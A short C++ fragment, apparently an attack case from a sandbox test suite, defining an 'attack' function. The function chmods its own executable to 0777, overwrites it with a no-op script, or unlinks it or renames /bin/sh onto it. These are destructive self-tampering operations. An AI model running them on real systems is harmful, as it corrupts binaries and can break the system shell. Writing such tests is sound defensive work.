// What is run next time is to be something else.
namespace {
bool attack(const std::string&) {
  const auto program = std::filesystem::read_symlink("/proc/self/exe").string();
  const std::string script = "#!/bin/sh\nexit 0\n";
  ::chmod(program.c_str(), 0777);
  if (can_write(program, script) || can_write("/proc/self/exe", script)) return true;
  return ::unlink(program.c_str()) == 0 || ::rename("/bin/sh", program.c_str()) == 0;
}
}  // namespace
